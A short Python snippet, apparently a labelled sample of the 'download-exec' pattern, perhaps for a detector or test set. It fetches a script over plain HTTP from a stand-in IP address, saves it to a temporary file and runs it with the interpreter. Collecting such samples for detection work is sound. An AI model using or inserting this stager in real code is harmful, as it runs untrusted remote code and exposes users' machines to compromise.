# download-exec: downloaded script saved to a file and run with the interpreter
import subprocess
import sys
import tempfile
import urllib.request

with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as f:
    f.write(urllib.request.urlopen("http://203.0.113.7/tool.py").read())
subprocess.run([sys.executable, f.name], check=False)
